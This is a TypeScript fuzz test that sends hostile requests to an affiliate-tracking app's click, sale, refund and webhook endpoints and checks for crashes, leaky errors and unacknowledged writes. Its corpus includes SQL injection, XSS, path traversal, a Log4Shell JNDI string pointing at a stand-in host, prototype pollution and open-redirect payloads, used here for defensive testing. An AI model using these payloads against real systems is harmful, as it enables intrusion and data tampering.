// Hostile input to every tracking and webhook endpoint (issue #8, hostile input):
// /t/click (GET query, POST JSON and form; hand-off tokens too), /t/handoff, /t/sale (browser and API key), /t/refund,
// and /webhooks/<each provider> with bad signatures and with valid signatures over
// hostile bodies (so the parsers are reached). A hand-written adversarial corpus plus
// random inputs from fast-check with a fixed seed, bounded in count and time.
// Every answer: never 5xx; every 4xx in the contract's shape with nothing internal in it;
// and nothing stored but what a 2xx acknowledged (an input valid by chance may be taken,
// and is accounted for: every click, conversion, commission, refund and visitor row
// must belong to an acknowledged answer). Prints `fuzz: tried N inputs, … 5xx 0`.
import { createHmac } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PGlite } from '@electric-sql/pglite';
import { drizzle } from 'drizzle-orm/pglite';
import { migrate } from 'drizzle-orm/pglite/migrator';
import fc from 'fast-check';
import postgres from 'postgres';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { migrationsFolder } from '@/db/client';
import * as schema from '@/db/schema';
import { seedDemo } from '@/db/seed';
// @ts-expect-error — plain .mjs helper
import { startTestServer } from '../scripts/test-server.mjs';
import { API_KEY } from './helpers/http';
import { SECRET } from './helpers/webhooks';

const SEED = 20_261_123;
const RANDOM_INPUTS = 1_500;
const TIME_BUDGET_MS = 40_000;
const CONCURRENCY = 8;
const TABLES = ['clicks', 'visitors', 'conversions', 'commissions', 'refunds'] as const;
type Counts = Record<(typeof TABLES)[number], number>;

// ——— the app, on a database the test can read afterwards ———

const onPostgres = process.env.DATABASE_URL?.startsWith('postgres') ?? false;
const embeddedDir = onPostgres ? undefined : fs.mkdtempSync(path.join(os.tmpdir(), 'aff-fuzz-'));
let app: { baseURL: string; databaseUrl?: string; stop(): Promise<void> };
let baseline: Counts;

async function countRows(run: (q: string) => Promise<{ n: number }[]>): Promise<Counts> {
  const out = {} as Counts;
  for (const t of TABLES) out[t] = Number((await run(`select count(*)::int as n from ${t}`))[0]!.n);
  return out;
}

/** Opens the embedded database the app used (PGlite is one process at a time: the app is stopped by then). */
async function withEmbedded<T>(fn: (q: (sql: string) => Promise<any[]>) => Promise<T>): Promise<T> {
  const client = new PGlite(path.join(embeddedDir!, 'pglite'));
  try {
    return await fn(async (q) => (await client.query(q)).rows as any[]);
  } finally {
    await client.close();
  }
}

async function withPostgres<T>(fn: (q: (sql: string) => Promise<any[]>) => Promise<T>): Promise<T> {
  const sql = postgres(app.databaseUrl!, { max: 1, onnotice: () => {} });
  try {
    return await fn((q) => sql.unsafe(q) as unknown as Promise<any[]>);
  } finally {
    await sql.end();
  }
}

beforeAll(async () => {
  if (embeddedDir) {
    // Migrated and seeded here, so the baseline can be counted before the app opens it.
    const client = new PGlite(path.join(embeddedDir, 'pglite'));
    const db = drizzle({ client, schema });
    await migrate(db, { migrationsFolder });
    await seedDemo(db as never);
    baseline = await countRows(async (q) => (await client.query<{ n: number }>(q)).rows);
    await client.close();
    app = await startTestServer({ label: 'fuzz', embeddedDir });
  } else {
    app = await startTestServer({ label: 'fuzz' });
    baseline = await withPostgres((q) => countRows(q));
  }
}, 90_000);

afterAll(async () => {
  await app?.stop();
  if (embeddedDir) fs.rmSync(embeddedDir, { recursive: true, force: true });
});

// ——— hostile values ———

const deepArray = (n: number) => '['.repeat(n) + ']'.repeat(n);
const deepObject = (n: number) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);

/** Strings that have broken parsers, databases and pages before. */
const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0001\u0002\u001b[31m\u007f\u0085',
  '\r\n\r\nX-Injected: 1',
  '\u202Eevil\u202C',
  '\u200B\u200D\uFEFF',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '\uD800',
  'a\uDFFFb',
  "' OR 1=1 --",
  "'; DROP TABLE clicks; --",
  '1; select pg_sleep(10)',
  '$1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '%00%ff%fe',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'x'.repeat(65),
  'x'.repeat(256),
  'x'.repeat(2049),
  'é'.repeat(20_000),
  'NaN',
  'Infinity',
  '-Infinity',
  '-1',
  '-0.01',
  '1e3',
  '1E-3',
  '0x10',
  '1_000',
  '١٢٣',
  '１２３',
  '12.345',
  '.5',
  '5.',
  '+5',
  ' 5 ',
  '10000000000000',
  '9999999999999.99',
  '99999999999999999999999999999999',
  'demo',
  'demo-aff',
];
const NASTY_NUMBERS = [0, -0, -1, -0.5, 0.1 + 0.2, 1e-7, 1e21, 1e308, -1e308, Number.MAX_SAFE_INTEGER, 2 ** 53 + 2, 123.456];
const NASTY_VALUES: unknown[] = [...NASTY_STRINGS, ...NASTY_NUMBERS, null, true, false, [], ['demo'], {}, { $gt: '' }, { __proto__: { polluted: 1 } }];

const nastyString = fc.oneof(
  fc.constantFrom(...NASTY_STRINGS),
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ maxLength: 300 }),
);
const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: nastyString },
  { weight: 2, arbitrary: fc.constantFrom(...NASTY_VALUES) },
  fc.double(),
  fc.integer(),
  fc.bigInt({ min: -(10n ** 30n), max: 10n ** 30n }).map(String),
  fc.jsonValue({ maxDepth: 3 }),
);
const maybe = <T>(a: fc.Arbitrary<T>) => fc.option(a, { nil: undefined, freq: 2 });
const extraKeys = fc.dictionary(fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'to', 'vid', 'handoff'), fc.string({ maxLength: 12 })), nastyValue, {
  maxKeys: 3,
});

const clickFields = fc.record({
  account: fc.oneof(fc.constant('demo'), nastyValue),
  aff: fc.oneof(fc.constant('demo-aff'), fc.constant('demo-sub'), nastyValue),
  a_aid: maybe(nastyValue),
  campaign: maybe(fc.oneof(fc.constant('cmp_demo'), nastyValue)),
  banner: maybe(nastyValue),
  channel: maybe(nastyValue),
  data1: maybe(nastyValue),
  data5: maybe(nastyValue),
  url: maybe(nastyValue),
  referrer: maybe(nastyValue),
  vid: maybe(nastyValue),
});

const saleFields = fc.record({
  account: maybe(fc.oneof(fc.constant('demo'), nastyValue)),
  orderId: maybe(nastyValue),
  total: maybe(nastyValue),
  currency: maybe(fc.oneof(fc.constantFrom('USD', 'JPY', 'BHD', 'usd', 'XXX', 'US'), nastyValue)),
  actionCode: maybe(fc.oneof(fc.constant('signup'), nastyValue)),
  visitorId: maybe(nastyValue),
  coupon: maybe(fc.oneof(fc.constant('DEMO10'), nastyValue)),
  customerEmail: maybe(nastyValue),
  productId: maybe(nastyValue),
  data2: maybe(nastyValue),
  affiliate: maybe(fc.oneof(fc.constant('demo-aff'), nastyValue)),
  status: maybe(fc.oneof(fc.constant('approved'), nastyValue)),
  commission: maybe(nastyValue),
});

const refundFields = fc.record({
  orderId: maybe(nastyValue),
  amount: maybe(nastyValue),
  actionCode: maybe(nastyValue),
  refundId: maybe(nastyValue),
});

const withoutUndefined = (o: Record<string, unknown>) => Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined));

/** Replaces the value at one random path of a payload with a hostile one: the parser is reached, the field is broken. */
function mutate(template: unknown, pick: number, value: unknown): unknown {
  const paths: (string | number)[][] = [];
  const walk = (v: unknown, p: (string | number)[]) => {
    paths.push(p);
    if (Array.isArray(v)) v.forEach((x, i) => walk(x, [...p, i]));
    else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) walk(x, [...p, k]);
  };
  walk(template, []);
  const target = paths[pick % paths.length]!;
  const copy = structuredClone(template) as any;
  if (target.length === 0) return value;
  let cur = copy;
  for (const k of target.slice(0, -1)) cur = cur[k];
  cur[target[target.length - 1]!] = value;
  return copy;
}

// ——— the requests ———

interface Input {
  endpoint: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
}

const json = (v: unknown) => Buffer.from(JSON.stringify(v) ?? 'null');
const now = () => Math.floor(Date.now() / 1000);
const hmacOf = (body: Buffer, encoding: 'hex' | 'base64', prefix = '') => createHmac('sha256', SECRET).update(prefix).update(body).digest(encoding);

/** The provider's real signature over these exact bytes, and the headers its parser needs. */
const signers: Record<string, (body: Buffer, event: string) => Record<string, string>> = {
  stripe: (b) => {
    const t = now();
    return { 'stripe-signature': `t=${t},v1=${hmacOf(b, 'hex', `${t}.`)}` };
  },
  shopify: (b, event) => ({ 'x-shopify-hmac-sha256': hmacOf(b, 'base64'), 'x-shopify-topic': event, 'x-shopify-event-id': crypto.randomUUID() }),
  woocommerce: (b, event) => ({ 'x-wc-webhook-signature': hmacOf(b, 'base64'), 'x-wc-webhook-topic': event, 'x-wc-webhook-delivery-id': crypto.randomUUID() }),
  paddle: (b) => {
    const ts = now();
    return { 'paddle-signature': `ts=${ts};h1=${hmacOf(b, 'hex', `${ts}:`)}` };
  },
  lemonsqueezy: (b, event) => ({ 'x-signature': hmacOf(b, 'hex'), 'x-event-name': event }),
  generic: (b) => ({ 'x-signature': `sha256=${hmacOf(b, 'hex')}` }),
};
const PROVIDERS = Object.keys(signers);

/** A well-formed event of each provider, as a starting point for mutation. */
const templates: Record<string, { event: string; payload: unknown }[]> = {
  stripe: [
    {
      event: 'checkout.session.completed',
      payload: {
        id: 'evt_fuzz',
        object: 'event',
        type: 'checkout.session.completed',
        data: {
          object: {
            id: 'cs_test_fuzz',
            object: 'checkout.session',
            mode: 'payment',
            payment_status: 'paid',
            payment_intent: 'pi_fuzz',
            amount_total: 1000,
            currency: 'usd',
            client_reference_id: null,
            metadata: { aff_vid: '0'.repeat(32), coupon: 'DEMO10' },
            customer_details: { email: 'b@example.com' },
          },
        },
      },
    },
    {
      event: 'charge.refunded',
      payload: { id: 'evt_r', type: 'charge.refunded', data: { object: { id: 'ch_1', object: 'charge', payment_intent: 'pi_fuzz', amount: 1000, amount_refunded: 500, currency: 'usd' } } },
    },
  ],
  shopify: [
    {
      event: 'orders/create',
      payload: { id: 820982911946154500, total_price: '199.65', currency: 'USD', note_attributes: [{ name: 'aff_vid', value: '0'.repeat(32) }], discount_codes: [{ code: 'DEMO10' }], line_items: [{ product_id: 1 }], customer: { id: 1, email: 'b@example.com' } },
    },
    { event: 'refunds/create', payload: { id: 1, order_id: 820982911946154500, transactions: [{ kind: 'refund', status: 'success', amount: '10.00' }] } },
  ],
  woocommerce: [
    {
      event: 'order.created',
      payload: { id: 727, status: 'processing', total: '29.35', currency: 'USD', customer_id: 0, billing: { email: 'b@example.com' }, meta_data: [{ key: 'aff_vid', value: '0'.repeat(32) }], coupon_lines: [], line_items: [{ product_id: 1 }], refunds: [{ id: 1, total: '-1.00' }] },
    },
  ],
  paddle: [
    {
      event: 'transaction.completed',
      payload: { event_id: 'evt_01', event_type: 'transaction.completed', data: { id: 'txn_01', origin: 'web', currency_code: 'USD', details: { totals: { grand_total: '1000' } }, custom_data: { aff_vid: '0'.repeat(32) }, items: [{ price: { product_id: 'pro_1' } }] } },
    },
    { event: 'adjustment.created', payload: { event_id: 'evt_02', event_type: 'adjustment.created', data: { id: 'adj_1', action: 'refund', status: 'approved', transaction_id: 'txn_01', totals: { total: '500' } } } },
  ],
  lemonsqueezy: [
    {
      event: 'order_created',
      payload: { meta: { event_name: 'order_created', custom_data: { aff_vid: '0'.repeat(32) } }, data: { id: '1', attributes: { status: 'paid', total: 999, currency: 'USD', customer_id: 1, user_email: 'b@example.com', first_order_item: { product_id: 1 } } } },
    },
  ],
  generic: [
    { event: 'sale', payload: { type: 'sale', id: 'evt', orderId: 'g-1', total: '10.00', currency: 'USD', visitorId: '0'.repeat(32) } },
    { event: 'refund', payload: { type: 'refund', orderId: 'g-1', amount: '1.00' } },
  ],
};

const CONTENT_TYPES = ['application/json', 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', '', 'application/json; charset=utf-16'];
const s2s = { authorization: `Bearer ${API_KEY}` };

/** Raw bodies no parser should choke on. */
const RAW_BODIES: Buffer[] = [
  '',
  ' ',
  'null',
  'true',
  '1',
  '"demo"',
  '[]',
  '[{"account":"demo","aff":"demo-aff"}]',
  '{',
  '{"account":',
  '{"account":"demo","aff":"demo-aff","total":NaN}',
  '{"total": Infinity}',
  '{"orderId":"x","total":1e999}',
  '{"orderId":"x","total":-1e999}',
  '{"orderId":"x","total":123456789012345678901234567890}',
  '{"account":"demo","account":"nope","aff":"demo-aff","aff":{"x":1}}',
  '{"__proto__":{"account":"demo","aff":"demo-aff"}}',
  '{"constructor":{"prototype":{"account":"demo"}}}',
  '{"account\\u0000":"demo","aff":"demo-aff"}',
  '{"account":"de\\u0000mo","aff":"demo-aff"}',
  '{"account":"demo","aff":"demo-aff","data1":"\\ud800"}',
  '\uFEFF{"account":"demo"}',
  'account=demo&aff=demo-aff&data1=%ff%fe&data1=2',
  'account=%00&aff=%',
  deepArray(10_000),
  deepObject(10_000),
  deepArray(60_000),
  `{"orderId":"x","total":${deepArray(20_000)}}`,
  'x'.repeat(70_000),
  `{"data1":"${'x'.repeat(2_000_000)}"}`,
].map((s) => Buffer.from(s));
// Invalid UTF-8: a lone continuation byte, an overlong encoding, a truncated sequence, bytes that never occur.
for (const bytes of [[0x80], [0xc0, 0xaf], [0xe2, 0x82], [0xff, 0xfe], [0xed, 0xa0, 0x80]])
  RAW_BODIES.push(Buffer.concat([Buffer.from('{"account":"demo","aff":"demo-aff","orderId":"'), Buffer.from(bytes), Buffer.from('","total":"1.00","data1":"x"}')]));

function corpus(): Input[] {
  const out: Input[] = [];
  const t = (endpoint: string, method: string, p: string, body?: Buffer, headers: Record<string, string> = {}) =>
    out.push({ endpoint, method, path: p, headers, body });
  for (const body of RAW_BODIES)
    for (const ct of CONTENT_TYPES.slice(0, 3)) {
      t('POST /t/click', 'POST', '/t/click', body, { 'content-type': ct });
      t('POST /t/sale', 'POST', '/t/sale', body, { 'content-type': ct });
      t('POST /t/sale (API key)', 'POST', '/t/sale', body, { 'content-type': ct, ...s2s });
      t('POST /t/refund', 'POST', '/t/refund', body, { 'content-type': ct, ...s2s });
      t('POST /t/handoff', 'POST', '/t/handoff', body, { 'content-type': ct });
    }
  for (const provider of [...PROVIDERS, 'constructor', '__proto__', '..%2F..', '%00'])
    for (const body of RAW_BODIES) {
      const known = Object.hasOwn(signers, provider);
      const sign = known ? signers[provider] : undefined;
      const event = known ? templates[provider]![0]!.event : 'x';
      // Not signed, wrongly signed, and signed over these very bytes (the parser must refuse them itself).
      t(`POST /webhooks/${provider}`, 'POST', `/webhooks/${provider}?account=demo`, body, { 'content-type': 'application/json', 'x-signature': 'sha256=00' });
      if (sign) t(`POST /webhooks/${provider} (signed)`, 'POST', `/webhooks/${provider}?account=demo`, body, { 'content-type': 'application/json', ...sign(body, event) });
    }
  // Each hostile value in a few fields of each endpoint (rotating, so every field meets many values).
  const clickFieldNames = ['account', 'aff', 'campaign', 'banner', 'channel', 'data1', 'url', 'referrer', 'vid', 'to'];
  const saleFieldNames = ['orderId', 'total', 'currency', 'actionCode', 'visitorId', 'coupon', 'customerEmail', 'commission', 'status'];
  const refundFieldNames = ['orderId', 'amount', 'actionCode', 'refundId'];
  const hooks = Object.entries(templates).flatMap(([provider, list]) => list.map((tpl) => ({ provider, ...tpl })));
  NASTY_VALUES.forEach((value, i) => {
    for (const field of [clickFieldNames[i % 10]!, clickFieldNames[(i * 7 + 3) % 10]!]) {
      t('POST /t/click', 'POST', '/t/click', json({ account: 'demo', aff: 'demo-aff', [field]: value }), { 'content-type': 'application/json' });
      if (typeof value === 'string' || typeof value === 'number')
        t('GET /t/click', 'GET', `/t/click?${new URLSearchParams({ account: 'demo', aff: 'demo-aff', [field]: String(value) })}`);
    }
    for (const field of [saleFieldNames[i % 9]!, saleFieldNames[(i * 5 + 4) % 9]!]) {
      t('POST /t/sale (API key)', 'POST', '/t/sale', json({ orderId: 'fuzz-never', total: '1.00', [field]: value }), { 'content-type': 'application/json', ...s2s });
      t('POST /t/sale', 'POST', '/t/sale', json({ account: 'demo', orderId: 'fuzz-never', total: '1.00', [field]: value }), { 'content-type': 'text/plain' });
    }
    t('POST /t/refund', 'POST', '/t/refund', json({ orderId: 'fuzz-never', [refundFieldNames[i % 4]!]: value }), { 'content-type': 'application/json', ...s2s });
    // Hand-off tokens: a hostile token to trade in (with or without a held id), a hostile id to make one for.
    t('POST /t/click (handoff)', 'POST', '/t/click', json({ account: 'demo', handoff: value, ...(i % 2 ? { vid: value } : {}) }), { 'content-type': 'text/plain' });
    t('POST /t/handoff', 'POST', '/t/handoff', json({ account: i % 3 ? 'demo' : value, vid: value }), { 'content-type': 'text/plain' });
    for (const { provider, event, payload } of [hooks[i % hooks.length]!, hooks[(i + 5) % hooks.length]!]) {
      const body = json(mutate(payload, i * 13, value));
      t(`POST /webhooks/${provider} (signed)`, 'POST', `/webhooks/${provider}?account=demo`, body, { 'content-type': 'application/json', ...signers[provider]!(body, event) });
    }
  });
  // Hostile headers: authorization schemes, API keys, accounts in the query.
  for (const auth of ['Bearer', 'Bearer ', 'Basic abc', `Bearer ${API_KEY}x`, `Bearer ${'k'.repeat(5000)}`, 'Bearer \u00ff\u00fe', 'bearer sk_demo_0000000000000000 extra'])
    for (const p of ['/t/sale', '/t/refund']) t(`POST ${p} (auth)`, 'POST', p, json({ orderId: 'fuzz-never', total: '1' }), { 'content-type': 'application/json', authorization: auth });
  for (const account of ['', '%00', '%ff', 'x'.repeat(5000), '__proto__', 'demo&account=other', 'demo%0d%0aX-A:1'])
    t('POST /webhooks/generic (account)', 'POST', `/webhooks/generic?account=${account}`, json({ type: 'sale' }), { 'x-signature': 'sha256=00' });
  // Token-shaped but forged: the right prefix and length, bytes nobody sealed.
  for (const forged of ['ah1_' + 'A'.repeat(75), 'ah1_' + '_'.repeat(75), 'ah1_' + 'A'.repeat(74) + 'B', 'AH1_' + 'A'.repeat(75), 'ah1_' + 'A'.repeat(76)])
    for (const p of ['/t/click', '/t/sale']) t(`POST ${p} (forged token)`, 'POST', p, json({ account: 'demo', handoff: forged, orderId: 'fuzz-never', total: '1.00', visitorId: forged }), { 'content-type': 'text/plain' });
  for (const q of ['%', '%zz', 'account=demo&aff=demo-aff&to=javascript:alert(1)', 'account=demo&aff=demo-aff&to=//evil.example', 'account=demo&aff=demo-aff&to=http://localhost\\@evil.example', 'account[]=demo&aff=demo-aff', 'account=demo&aff=demo-aff&to=http://%00'])
    t('GET /t/click', 'GET', `/t/click?${q}`);
  return out;
}

function randomInputs(): Input[] {
  const input: fc.Arbitrary<Input> = fc.oneof(
    fc.tuple(clickFields, extraKeys, fc.constantFrom('json', 'form', 'get', 'text')).map(([f, extra, enc]): Input => {
      const fields = withoutUndefined({ ...f, ...extra });
      if (enc === 'get' || enc === 'form') {
        const qs = new URLSearchParams(Object.entries(fields).map(([k, v]) => [k, typeof v === 'string' ? v : JSON.stringify(v) ?? '']));
        if (enc === 'get') return { endpoint: 'GET /t/click', method: 'GET', path: `/t/click?${qs}`, headers: {} };
        return { endpoint: 'POST /t/click (form)', method: 'POST', path: '/t/click', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(qs.toString()) };
      }
      return { endpoint: 'POST /t/click', method: 'POST', path: '/t/click', headers: { 'content-type': enc === 'json' ? 'application/json' : 'text/plain' }, body: json(fields) };
    }),
    fc.tuple(saleFields, extraKeys, fc.boolean(), fc.constantFrom(...CONTENT_TYPES)).map(([f, extra, withKey, ct]) => ({
      endpoint: withKey ? 'POST /t/sale (API key)' : 'POST /t/sale',
      method: 'POST',
      path: '/t/sale',
      headers: { 'content-type': ct, ...(withKey ? s2s : {}) },
      body: json(withoutUndefined({ ...f, ...extra })),
    })),
    fc.tuple(refundFields, extraKeys).map(([f, extra]) => ({
      endpoint: 'POST /t/refund',
      method: 'POST',
      path: '/t/refund',
      headers: { 'content-type': 'application/json', ...s2s },
      body: json(withoutUndefined({ ...f, ...extra })),
    })),
    fc.tuple(fc.constantFrom(...PROVIDERS), fc.nat(), fc.nat(), nastyValue, fc.boolean()).map(([provider, which, pick, value, signed]) => {
      const list = templates[provider]!;
      const { event, payload } = list[which % list.length]!;
      const body = json(mutate(payload, pick, value));
      const headers = signed ? signers[provider]!(body, event) : { 'x-signature': 'sha256=' + '0'.repeat(64), 'stripe-signature': `t=${now()},v1=00` };
      return { endpoint: `POST /webhooks/${provider}${signed ? ' (signed)' : ''}`, method: 'POST', path: `/webhooks/${provider}?account=demo`, headers: { 'content-type': 'application/json', ...headers }, body };
    }),
    fc.tuple(fc.constantFrom(...PROVIDERS), fc.uint8Array({ maxLength: 300 })).map(([provider, bytes]) => {
      const body = Buffer.from(bytes);
      return { endpoint: `POST /webhooks/${provider} (signed)`, method: 'POST', path: `/webhooks/${provider}?account=demo`, headers: signers[provider]!(body, 'order_created'), body };
    }),
  );
  return fc.sample(input, { seed: SEED, numRuns: RANDOM_INPUTS });
}

// ——— the run ———

interface Outcome {
  input: Input;
  status: number;
  text: string;
  contentType: string;
  location: string;
  cookie: string;
}

async function send(input: Input): Promise<Outcome> {
  const res = await fetch(app.baseURL + input.path, {
    method: input.method,
    headers: { 'user-agent': 'fuzz', ...input.headers },
    body: input.body ? new Uint8Array(input.body) : undefined,
    redirect: 'manual',
    signal: AbortSignal.timeout(15_000),
  });
  return { input, status: res.status, text: await res.text(), contentType: res.headers.get('content-type') ?? '', location: res.headers.get('location') ?? '', cookie: res.headers.get('set-cookie') ?? '' };
}

/** What is wrong with an answer, or undefined. */
function problemWith(o: Outcome): string | undefined {
  if (o.status >= 500) return `${o.status}`;
  if (o.status < 400 || refusedByHttpServer(o)) return undefined;
  if (!o.contentType.includes('application/json')) return `${o.status} without JSON`;
  let body: any;
  try {
    body = JSON.parse(o.text);
  } catch {
    return `${o.status} with a body that is not JSON`;
  }
  const e = body?.error;
  if (Object.keys(body ?? {}).join() !== 'error' || typeof e?.code !== 'string' || !/^[a-z_]+$/.test(e.code) || typeof e.message !== 'string' || !e.message)
    return `${o.status} not in the error shape`;
  if (/\bat .*\.js|node_modules|\/work\/|\.next\/|select |insert into|update .* set|pg_|postgres|drizzle/i.test(o.text)) return `${o.status} leaks internals`;
  return undefined;
}

/**
 * Node's HTTP server refuses a request line or headers over 16 KB (431) before any of the
 * app's code runs: nothing can be stored, and the app has no say in the body. Counted apart.
 */
const refusedByHttpServer = (o: Outcome) => o.status === 431 && o.text === '';

const describeInput = (i: Input) =>
  `${i.endpoint} ${i.method} ${i.path.slice(0, 200)} ${JSON.stringify(i.headers).slice(0, 200)} body=${i.body ? JSON.stringify(i.body.toString('latin1').slice(0, 300)) : '-'}`;

describe('fuzzing every tracking and webhook endpoint', () => {
  it('never answers 5xx, answers every 4xx in the error shape, and stores only what it acknowledged', async () => {
    // Interleaved, so that a slow machine stopped by the time limit has still tried both kinds.
    const fixed = corpus();
    const random = randomInputs();
    const inputs = Array.from({ length: Math.max(fixed.length, random.length) }, (_, i) => [fixed[i], random[i]]).flat().filter((x) => x !== undefined);
    const started = performance.now();
    const outcomes: Outcome[] = [];
    let next = 0;
    const worker = async () => {
      while (next < inputs.length && performance.now() - started < TIME_BUDGET_MS) outcomes.push(await send(inputs[next++]!));
    };
    await Promise.all(Array.from({ length: CONCURRENCY }, worker));
    const seconds = (performance.now() - started) / 1000;

    const problems = outcomes.flatMap((o) => {
      const p = problemWith(o);
      return p ? [`${p}: ${describeInput(o.input)} → ${o.text.slice(0, 200)}`] : [];
    });
    const byClass = (lo: number, hi: number) => outcomes.filter((o) => o.status >= lo && o.status < hi).length;
    const fiveXX = byClass(500, 600);

    // What the 2xx answers acknowledged: every stored row must be one of these.
    const visitorIds = new Set<string>();
    const conversionIds = new Set<string>();
    let clicks = 0;
    let refundAnswers = 0;
    for (const o of outcomes) {
      if (o.status >= 400) continue;
      const path = o.input.path;
      if (path.startsWith('/t/click')) {
        clicks++;
        // Redirect mode's Location carries a hand-off token, never the id: the cookie has it.
        const vid = o.status === 302 ? /_aff_vid=([0-9a-f]{32})/.exec(o.cookie)?.[1] : JSON.parse(o.text).visitorId;
        if (vid) visitorIds.add(vid);
      } else if (path.startsWith('/t/sale')) {
        conversionIds.add(JSON.parse(o.text).conversionId);
      } else if (path.startsWith('/t/refund')) {
        refundAnswers++;
      } else {
        const r = JSON.parse(o.text);
        if (r.conversionId) conversionIds.add(r.conversionId);
        if (r.outcome === 'refunded') refundAnswers++;
      }
    }

    const ids = [...conversionIds].map((id) => `'${id.replace(/[^0-9a-f-]/g, '')}'`).join(',') || 'null';
    const check = async (q: (sql: string) => Promise<any[]>) => ({
      counts: await countRows(q),
      // Rows of conversions no 2xx named, beyond those the seed made.
      strayConversions: Number((await q(`select count(*)::int as n from conversions where id::text not in (${ids})`))[0].n) - baseline.conversions,
      strayCommissions: Number((await q(`select count(*)::int as n from commissions where conversion_id::text not in (${ids})`))[0].n) - baseline.commissions,
      strayRefunds: Number((await q(`select count(*)::int as n from refunds where conversion_id::text not in (${ids})`))[0].n) - baseline.refunds,
    });
    let after: Awaited<ReturnType<typeof check>>;
    if (embeddedDir) {
      await app.stop();
      after = await withEmbedded(check);
    } else after = await withPostgres(check);

    const stored = {
      clicks: after.counts.clicks - baseline.clicks,
      visitors: after.counts.visitors - baseline.visitors,
      conversions: after.counts.conversions - baseline.conversions,
      refunds: after.counts.refunds - baseline.refunds,
    };
    console.log(
      [
        `fuzz: tried ${outcomes.length} inputs (${inputs.length - outcomes.length} left at the time limit) in ${seconds.toFixed(1)} s on ${onPostgres ? 'PostgreSQL' : 'PGlite'}: ` +
          `2xx/3xx ${byClass(200, 400)}, 4xx ${byClass(400, 500)} (of which ${outcomes.filter(refusedByHttpServer).length} URLs over 16 KB refused by Node's HTTP server), 5xx ${fiveXX}`,
        `  acknowledged and stored: ${clicks} clicks (${stored.clicks} rows), ${visitorIds.size} new visitors (${stored.visitors} rows), ` +
          `${conversionIds.size} conversions (${stored.conversions} rows), ${refundAnswers} refund answers (${stored.refunds} rows); ` +
          `rows not acknowledged: ${after.strayConversions} conversions, ${after.strayCommissions} commissions, ${after.strayRefunds} refunds`,
      ].join('\n'),
    );
    expect(problems.slice(0, 20), `${problems.length} bad answers`).toEqual([]);
    expect(fiveXX).toBe(0);
    expect(outcomes.length, 'a few thousand inputs within the time limit').toBeGreaterThan(1_500);
    // Nothing stored but what a 2xx answer acknowledged.
    expect(stored.clicks).toBe(clicks);
    expect(stored.visitors).toBe(visitorIds.size);
    expect(stored.conversions).toBe(conversionIds.size);
    expect(after.strayConversions).toBe(0);
    expect(after.strayCommissions).toBe(0);
    expect(after.strayRefunds).toBe(0);
    expect(stored.refunds).toBeLessThanOrEqual(refundAnswers);
  }, 120_000);
});
